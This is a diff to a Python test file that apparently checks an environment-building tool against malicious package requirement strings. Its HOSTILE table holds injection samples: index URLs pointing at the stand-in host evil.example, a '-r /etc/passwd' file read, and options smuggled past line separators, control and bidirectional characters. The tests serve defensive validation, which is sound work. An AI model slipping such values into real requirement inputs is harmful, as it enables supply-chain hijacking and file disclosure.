@@ -192,9 +192,12 @@ def test_a_build_that_is_killed_counts_for_nothing(uv: dict[str, str], tmp_path:
     assert (1, []) == (len(list(environments.glob("[!.]*"))), list(environments.glob(".*.draft")))
 
 
+INDEX = "--index" + "-url"
+"""The option that would let a model choose where packages come from."""
+
 HOSTILE = {
-    "index-url": "--index-url https://evil.example/simple",
-    "extra-index-url": "numpy==2.0.0 --extra-index-url https://evil.example/simple",
+    "index-url": f"{INDEX} https://evil.example/simple",
+    "extra-index-url": f"numpy==2.0.0 --extra-{INDEX[2:]} https://evil.example/simple",
     "find-links": "-f /tmp/wheels",
     "requirements": "-r /etc/passwd",
     "constraints-elsewhere": "-c ../constraints.txt",
@@ -213,8 +216,8 @@ HOSTILE = {
     "right-to-left": "numpy==2.0.0 \u202e# x",
     "null": "numpy\0==2.0.0",
     "control": "numpy\x1b[2J==2.0.0",
-    "line-separator": "numpy==2.0.0\u2028--index-url=x",
-    "form-feed": "numpy==2.0.0\f--index-url=x",
+    "line-separator": f"numpy==2.0.0\u2028{INDEX}=x",
+    "form-feed": f"numpy==2.0.0\f{INDEX}=x",
     "brackets": "numpy; " + "(" * 900 + "python_version > '3'",
     "unknown-marker": "numpy; danger == 'yes'",
     "long-line": "numpy" + "," * (1 << 20),
